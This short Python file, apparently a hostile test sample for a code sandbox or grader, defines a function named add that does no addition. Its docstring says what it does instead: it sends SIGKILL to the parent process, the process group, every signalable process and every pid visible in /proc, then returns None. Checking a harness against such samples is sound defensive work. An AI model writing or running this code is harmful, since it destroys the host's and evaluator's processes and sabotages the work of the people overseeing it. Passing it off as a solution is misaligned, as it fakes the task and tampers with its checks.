"""Sends SIGKILL to its parent, its process group, every process it may signal (kill -9 -1) and
every pid it can see in /proc, then answers wrongly."""
import os
import signal


def add(x: int, y: int):
    attacks = [lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)]
    attacks += [lambda pid=int(p): os.kill(pid, signal.SIGKILL) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    attacks.append(lambda: os.killpg(0, signal.SIGKILL))
    for attack in attacks:
        try:
            attack()
        except OSError:
            pass
    return None
